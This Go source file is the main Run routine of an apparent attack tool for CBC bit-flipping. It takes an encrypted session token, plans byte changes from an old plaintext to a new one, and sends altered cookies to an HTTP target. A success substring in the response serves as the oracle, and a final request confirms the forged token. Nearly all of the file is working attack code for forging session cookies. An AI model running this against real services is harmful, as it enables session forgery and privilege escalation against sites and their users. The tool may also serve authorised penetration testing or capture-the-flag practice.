package cbcflip

import (
	"context"
	"errors"
	"net/http"
	"net/url"
	"time"

	"cbcflip/internal/crypto"
	"cbcflip/internal/flip"
	"cbcflip/internal/oracle"
	"cbcflip/internal/report"
	"cbcflip/internal/token"
	"cbcflip/pkg/logx"
)

type Options struct {
	Target    string
	Session   string
	Old       string
	New       string
	Params    url.Values
	Success   string
	Cookie    string
	Delay     time.Duration
	Timeout   time.Duration
	Encoding  string
	BlockSize int
	Layout    string
	DryRun    bool

	Observer flip.Observer
	Select   flip.Selector
	Client   *http.Client
}

// Run validates the inputs, flips the session byte by byte against the
// target and verifies the final token with one more request.
// Precondition failures return an error and no results; every other outcome
// is recorded in the returned run.
func Run(ctx context.Context, opt Options) (*report.Results, error) {
	codec, err := token.ParseEncoding(opt.Encoding)
	if err != nil { return nil, &flip.PreconditionError{Reason: "encoding", Err: err} }
	layout, err := crypto.ParseLayout(opt.Layout)
	if err != nil { return nil, &flip.PreconditionError{Reason: "layout", Err: err} }
	if opt.BlockSize == 0 { opt.BlockSize = flip.BlockSize }
	if opt.Cookie == "" { opt.Cookie = oracle.DefaultCookie }
	if opt.Success == "" {
		return nil, &flip.PreconditionError{Reason: "success substring must not be empty"}
	}

	plan, err := flip.NewPlan(opt.Old, opt.New)
	if err != nil { return nil, err }
	tgt, err := flip.ParseToken(codec, opt.Session, opt.BlockSize, layout)
	if err != nil { return nil, err }
	offsets, err := tgt.Offsets(plan)
	if err != nil { return nil, err }

	res := &report.Results{GeneratedAt: time.Now().UTC()}
	run := report.NewRun(opt.Target)
	run.Params = opt.Params
	run.Cookie = opt.Cookie
	run.Success = opt.Success
	run.BlockSize = opt.BlockSize
	run.Layout = layout.String()
	defer func() {
		run.FinishedAt = time.Now().UTC()
		res.Add(run)
	}()

	if opt.DryRun {
		predicted, err := tgt.Predict(plan)
		if err != nil { return nil, err }
		for _, i := range plan.Deltas() {
			logx.Infof("byte %d: old=0x%02x new=0x%02x offset=%d", i, plan.Old[i], plan.New[i], offsets[i])
			run.Positions = append(run.Positions, report.Position{
				Index:    i,
				Offset:   offsets[i],
				Old:      report.HexByte(plan.Old[i]),
				New:      report.HexByte(plan.New[i]),
				Expected: report.HexByte(crypto.ExpectedByte(tgt.Buf[offsets[i]], plan.Old[i], plan.New[i])),
			})
		}
		res.Notes = append(res.Notes, "dry run: no requests sent; final token is the XOR-model prediction "+codec.Encode(predicted))
		return res, nil
	}

	transport, err := oracle.NewHTTP(oracle.HTTPOptions{
		Target:  opt.Target,
		Params:  opt.Params,
		Cookie:  opt.Cookie,
		Timeout: opt.Timeout,
		Codec:   codec,
		Client:  opt.Client,
	})
	if err != nil { return nil, &flip.PreconditionError{Reason: "target", Err: err} }
	limited := oracle.Limit(transport, opt.Delay)

	chain := &flip.Chainer{
		Searcher: &flip.Searcher{Oracle: limited, Match: oracle.Contains(opt.Success), Codec: codec, Observer: opt.Observer},
		Select:   opt.Select,
	}
	logx.Infow("starting run", "run_id", run.RunID, "target", opt.Target, "positions", len(offsets))
	out, err := chain.Run(ctx, tgt, plan)
	if out != nil {
		run.State = out.State
		run.Positions = report.Positions(out.Steps)
		run.FinalToken = codec.Encode(out.Final.Bytes())
	}
	defer func() { run.Requests = limited.Requests() }()
	switch {
	case err == nil:
	case errors.Is(err, flip.ErrExhausted):
		run.Error = err.Error()
		return res, nil
	default:
		run.Error = err.Error()
		return res, err
	}

	logx.Infof("all differing bytes done, checking final result with the server")
	final := limited.Submit(ctx, out.Final.Bytes())
	run.FinalStatus = final.Status
	run.FinalBody = final.Body
	if final.Err != nil {
		res.Notes = append(res.Notes, "final verification request failed: "+final.Err.Error())
	} else if !oracle.Contains(opt.Success)(final) {
		res.Notes = append(res.Notes, "final response does not contain the success substring")
	}
	return res, nil
}
